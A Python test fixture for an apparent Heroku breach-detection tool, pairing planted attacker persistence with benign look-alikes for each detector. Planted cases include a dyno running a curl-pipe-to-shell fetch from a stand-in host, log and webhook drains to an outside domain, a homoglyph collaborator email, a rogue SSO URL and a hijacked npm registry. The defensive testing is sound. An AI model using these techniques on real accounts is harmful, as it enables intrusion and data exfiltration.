"""For each detector of things that are listed: one that was planted, one like it that is harmless."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass
from datetime import datetime, timedelta

from herotui.estate.place import Place
from herotui.heroku.models import (
    AddOn,
    AddOnRef,
    App,
    Attachment,
    Authorization,
    Buildpack,
    BuildpackRef,
    Certificate,
    Client,
    ClientRef,
    Collaborator,
    Coupling,
    Domain,
    Drain,
    Dyno,
    EnterpriseMember,
    EnterprisePermission,
    Exporter,
    Feature,
    Formation,
    GitHubLink,
    IdentityProvider,
    InboundRuleset,
    Invitation,
    Member,
    Model,
    Ref,
    Rule,
    Session,
    SniEndpoint,
    SpaceDrain,
    SpaceMember,
    SSHKey,
    TelemetryDrain,
    Transfer,
    Webhook,
    WebhookDelivery,
)
from tests.detect.base import EVIL, OLD, RELEASES, SHOP, SINCE, STAGE, at, build, config, person, release
from tests.detect.scenes import COLLEAGUE

SPY = "lee@acrne.example"
PLACES = {
    "authorizations": Place("authorizations"),
    "team": Place("team_authorizations", "t1", "acme-core"),
    "members": Place("members", "t1", "acme-core"),
    "providers": Place("identity_providers", "t1", "acme-core"),
    "review": Place("review_config", "p1", "acme-line"),
}
LATE = SINCE + timedelta(hours=3)
"""Since the leak, in the owner's hours."""


@dataclass(frozen=True)
class Case:
    """What is planted at a place, and its benign look-alike (the worst that may be made of it; empty: no finding)."""

    detector: str
    place: Place
    planted: Sequence[Model]
    benign: Sequence[Model] = ()
    at_most: str = ""
    severity: str = "high"
    beside: dict[Place, Sequence[Model]] | None = None

    def __str__(self) -> str:
        return f"{self.detector}-{self.planted[0].id}"


def _login(id: str, host: str, made: datetime = SINCE, session: str = "") -> Authorization:
    held = Ref(id=session) if session else None
    return Authorization(id=id, description=f"Heroku CLI login from {host}", created_at=made, session=held)


def _attached(id: str, app: str) -> Attachment:
    home = AddOnRef(id="pg1", name="pg-one", app=Ref(id=SHOP, name=SHOP))
    return Attachment(id=id, name="ANALYTICS", addon=home, app=Ref(id=app, name=app), created_at=SINCE)


def _addon(id: str, plan: str) -> AddOn:
    service = plan.partition(":")[0]
    app = Ref(id=SHOP, name=SHOP)
    return AddOn(id=id, name=id, addon_service=Ref(name=service), plan=Ref(name=plan), app=app, created_at=SINCE)


def _dyno(id: str, command: str, kind: str = "run", size: str = "Standard-1X") -> Dyno:
    return Dyno(id=id, name=f"{kind}.{id}", type=kind, command=command, size=size, created_at=SINCE, updated_at=SINCE)


def _certificate(id: str, name: str) -> SniEndpoint:
    return SniEndpoint(id=id, name=id, ssl_cert=Certificate(cert_domains=(name,)), created_at=SINCE)


def _pack(url: str) -> Buildpack:
    return Buildpack(id=url, ordinal=2, buildpack=BuildpackRef(url=url))


def _member(email: str, permission: str = "view") -> EnterpriseMember:
    return EnterpriseMember(id=email, user=person(email), permissions=(EnterprisePermission(name=permission),))


def _telemetry(id: str, url: str) -> TelemetryDrain:
    return TelemetryDrain(id=id, signals=("logs",), exporter=Exporter(type="otlp", endpoint=url), created_at=SINCE)


CASES = (
    Case("authorization", PLACES["authorizations"], [_login("x", "kali", session="s9")],
         [_login("y", "dana-mbp.local", session="s8")], "medium"),
    Case("authorization", PLACES["authorizations"], [_login("under a colleague's name", "dana-mbp.local")]),
    Case("authorization", PLACES["authorizations"],
         [Authorization(id="minted", description="github-actions", scope=("global",), created_at=SINCE)]),
    Case("authorization", PLACES["authorizations"],
         [Authorization(id="regenerated", description="jenkins", created_at=OLD, updated_at=SINCE)],
         [Authorization(id="refreshed", client=ClientRef(id="c1", name="board"), created_at=OLD, updated_at=SINCE)]),
    Case("team_authorization", PLACES["team"], [Authorization(id="x", description="reporting", created_at=SINCE)],
         [Authorization(id="y", description="reporting", created_at=OLD, updated_at=OLD)], severity="critical"),
    Case("session", PLACES["authorizations"], [_login("x", "kali", session="s9")],
         [_login("old", "kali", OLD, "s9")],
         beside={Place("sessions"): [Session(id="s9", description="Heroku CLI login from kali")]}),
    Case("ssh_key", Place("keys"), [SSHKey(id="x", comment="root@kali", created_at=SINCE)],
         [SSHKey(id="y", comment="dana@old", created_at=OLD)]),
    Case("oauth_client", Place("clients"),
         [Client(id="x", redirect_uri="https://cdn-metrics.example/o", created_at=SINCE)],
         [Client(id="y", redirect_uri="https://board.acme.example/o", created_at=SINCE)], "medium"),
    Case("identity_provider", PLACES["providers"],
         [IdentityProvider(id="x", sso_target_url="https://login.cdn.example", created_at=OLD, updated_at=SINCE)],
         [IdentityProvider(id="y", sso_target_url="https://sso.acme.example", created_at=OLD, updated_at=OLD)],
         severity="critical"),
    Case("collaborator", at(SHOP, "collaborators"),
         [Collaborator(id="look-alike", user=person(SPY), created_at=SINCE)],
         [Collaborator(id="y", user=person("new.colleague@acme.example"), created_at=SINCE)], "medium", "critical"),
    Case("collaborator", at(SHOP, "collaborators"),
         [Collaborator(id="homoglyph", user=person("lee@\u0430cme.example"), created_at=SINCE)], severity="critical"),
    Case("collaborator", at(SHOP, "collaborators"),
         [Collaborator(id="outside", user=person("ops@mailbox.example"), created_at=SINCE)]),
    Case("team_member", PLACES["members"],
         [Member(id="x", email=SPY, role="admin", user=person(SPY), created_at=SINCE)],
         [Member(id="y", email="new@acme.example", role="member", created_at=SINCE)], "medium", "critical"),
    Case("team_member", PLACES["members"],
         [Member(id="raised", email=COLLEAGUE, role="admin", created_at=OLD, updated_at=SINCE)],
         [Member(id="renamed", email=COLLEAGUE, role="member", created_at=OLD, updated_at=SINCE)], "medium"),
    Case("invitation", Place("invitations", "t1", "acme-core"),
         [Invitation(id="x", user=person("it@cdn-metrics.example"), role="admin", created_at=SINCE)],
         [Invitation(id="y", user=person("new@acme.example"), role="member", created_at=SINCE)], "medium"),
    Case("transfer", Place("transfers"),
         [Transfer(id="x", app=Ref(id=SHOP, name=SHOP), recipient=person(SPY), state="pending", created_at=SINCE)],
         [Transfer(id="y", app=Ref(id=SHOP, name=SHOP), recipient=person(SPY), state="declined", created_at=SINCE)],
         severity="critical"),
    Case("space_member", Place("space_members", "sp1", "acme-private"),
         [SpaceMember(id="x", user=person("ops@mailbox.example"), created_at=SINCE)],
         [SpaceMember(id="y", user=person(COLLEAGUE), created_at=SINCE)], "medium"),
    Case("enterprise_member", Place("enterprise_members", "e1", "acme-inc"), [_member("ops@mailbox.example", "manage")],
         [_member("new@acme.example")]),
    Case("log_drain", at(SHOP, "drains"), [Drain(id="x", url="https://logs.cdn-metrics.example/in", created_at=SINCE)],
         [Drain(id="y", url="https://logs.acme.example/two", created_at=SINCE)], "medium"),
    Case("log_drain", at(SHOP, "drains"), [Drain(id="moved", url="https://x.io", created_at=OLD, updated_at=SINCE)],
         [Drain(id="of an add-on", url="https://x.example", addon=Ref(id="pt"), created_at=SINCE)]),
    Case("webhook", at(SHOP, "webhooks"), [Webhook(id="x", url="https://hooks.cdn-metrics.example", created_at=SINCE)],
         [Webhook(id="y", url="https://chat.partner.example/b", created_at=SINCE)], "medium"),
    Case("telemetry_drain", at(SHOP, "telemetry_drains"), [_telemetry("x", "https://otel.cdn-metrics.example")],
         [_telemetry("y", "https://otel.acme.example")], "medium"),
    Case("space_telemetry_drain", Place("space_telemetry", "sp1", "acme-private"), [_telemetry("x", "https://o.example")]),
    Case("space_log_drain", Place("space_drains", "sp1", "acme-private"),
         [SpaceDrain(id="log-drain", url="https://logs.cdn-metrics.example", created_at=SINCE)],
         [SpaceDrain(id="log-drain", url="https://logs.acme.example", created_at=SINCE)], "medium"),
    Case("attachment", Place("attachments"), [_attached("x", EVIL)], [_attached("y", STAGE)], "medium", "critical"),
    Case("inbound_rules", Place("space_rules", "sp1", "acme-private"),
         [InboundRuleset(id="x", rules=(Rule(action="allow", source="0.0.0.0/0"),), created_at=SINCE)],
         [InboundRuleset(id="y", rules=(Rule(action="allow", source="0.0.0.0/0"),), created_at=OLD)]),
    Case("domain", at(SHOP, "domains"), [Domain(id="x", hostname="status.acme-help.example", created_at=SINCE)],
         [Domain(id="y", hostname="new.acme.example", created_at=SINCE)], "medium", "critical"),
    Case("certificate", at(SHOP, "sni_endpoints"), [_certificate("x", "login.cdn-metrics.example")],
         [_certificate("y", "www.acme.example")], "low", "medium"),
    Case("one_off_dyno", at(SHOP, "dynos"), [_dyno("1", "bash -c 'curl -s https://x.example/m.sh | sh'")],
         [_dyno("2", "rails console")], "medium", "critical"),
    Case("one_off_dyno", at(SHOP, "dynos"), [_dyno("3", "bash")], [_dyno("4", "npm start", kind="web")]),
    Case("one_off_dyno", at(SHOP, "dynos"), [_dyno("5", "work", size="Performance-L")]),
    Case("formation", at(SHOP, "formation"),
         [Formation(id="x", type="worker", quantity=6, size="Performance-L", created_at=OLD, updated_at=SINCE)],
         [Formation(id="y", type="web", quantity=2, size="Standard-1X", created_at=OLD, updated_at=SINCE)], "low"),
    Case("addon", Place("addons"), [_addon("x", "logspy:premium")], [_addon("y", "heroku-postgresql:mini")], "low",
         "medium"),
    Case("app_feature", at(SHOP, "app_features"),
         [Feature(id="x", name="runtime-heroku-exec", enabled=True, created_at=OLD, updated_at=SINCE)],
         [Feature(id="y", name="http-session-affinity", enabled=True, created_at=OLD, updated_at=SINCE)], "low"),
    Case("team_feature", Place("team_features", "t1", "acme-core"),
         [Feature(id="x", name="team-tokens", enabled=True, created_at=OLD, updated_at=SINCE)],
         [Feature(id="y", name="team-tokens", enabled=False, created_at=OLD, updated_at=SINCE)]),
    Case("account_feature", Place("account_features"),
         [Feature(id="x", name="spaces-preview", enabled=True, created_at=OLD, updated_at=SINCE)],
         [Feature(id="y", name="spaces-preview", enabled=True, created_at=OLD, updated_at=OLD)], severity="low"),
    Case("github_link", at(STAGE, "github_links"),
         [GitHubLink(id="x", repo="eve/shop", branch="main", auto_deploy=True, created_at=OLD, updated_at=SINCE)],
         [GitHubLink(id="y", repo="acme/other", branch="main", created_at=SINCE)], "medium"),
    Case("pipeline_coupling", Place("couplings"), [Coupling(id="x", app=Ref(id=EVIL, name=EVIL), created_at=SINCE)],
         [Coupling(id="y", app=Ref(id=STAGE, name=STAGE), created_at=SINCE)], "low"),
    Case("new_app", Place("apps"), [App(id="n", name="n", owner=person("eve2@acme.example"), created_at=SINCE)],
         [App(id="o", name="o", owner=person("lee@acme.example"), created_at=OLD)], severity="low"),
    Case("foreign_app", at(EVIL, "collaborators"),
         [Collaborator(id="x", user=person("dana@acme.example"), created_at=SINCE)],
         [Collaborator(id="y", user=person("dana@acme.example"), created_at=OLD)], severity="medium"),
    Case("maintenance", Place("apps"),
         [App(id="m", name="m", owner=person(COLLEAGUE), maintenance=True, created_at=OLD, updated_at=SINCE)],
         [App(id="q", name="q", owner=person(COLLEAGUE), maintenance=True, created_at=OLD, updated_at=OLD)],
         severity="medium"),
    Case("buildpack", at(SHOP, "buildpacks"), [_pack("https://git.cdn-metrics.example/heroku-buildpack-apt")],
         [_pack("https://github.com/heroku/heroku-buildpack-ruby")]),
    Case("build_with_buildpack", at(SHOP, "builds"),
         [build(RELEASES + 1, LATE, packs=["https://git.cdn-metrics.example/pack"])], [build(RELEASES + 1, LATE)]),
    Case("pipeline_config_var", PLACES["review"], config(NPM_CONFIG_REGISTRY="https://npm.cdn-metrics.example/"),
         config(NPM_CONFIG_REGISTRY="https://npm.acme.example/"), "medium", "medium"),
    Case("foreign_source", at(SHOP, "builds"), [build(RELEASES + 1, LATE, url="https://code.cdn-metrics.example/x.tgz")],
         [build(RELEASES + 1, LATE)]),
    Case("unbuilt_release", at(SHOP, "releases"), [release(RELEASES + 1, LATE)],
         [release(RELEASES + 1, LATE, description="Attach REDIS (@ref:redis-one)")]),
    Case("unbuilt_release", at(SHOP, "releases"), [release(RELEASES + 1, LATE, description="Deployed web (sha256:1)")]),
    Case("rollback", at(SHOP, "releases"), [release(RELEASES + 1, LATE, description="Rollback to v3")],
         [release(RELEASES + 1, LATE, description=f"Rollback to v{RELEASES - 1}")], "medium"),
    Case("release_out_of_habit", at(SHOP, "releases"), [release(RELEASES + 1, SINCE)], [release(RELEASES + 1, LATE)],
         severity="medium"),
    Case("release_out_of_habit", at(SHOP, "releases"), [release(RELEASES + 1, LATE, "eve@mailbox.example")],
         [release(RELEASES + 1, LATE, COLLEAGUE)]),
    Case("release_gap", at(SHOP, "releases"), [release(RELEASES + 2, LATE)], [release(RELEASES + 1, LATE)],
         severity="medium"),
    Case("webhook_gone", at(SHOP, "webhook_deliveries"),
         [WebhookDelivery(id="x", webhook=Ref(id="gone"), created_at=SINCE)],
         [WebhookDelivery(id="y", webhook=Ref(id="w1"), created_at=SINCE)], severity="medium"),
)  # fmt: skip
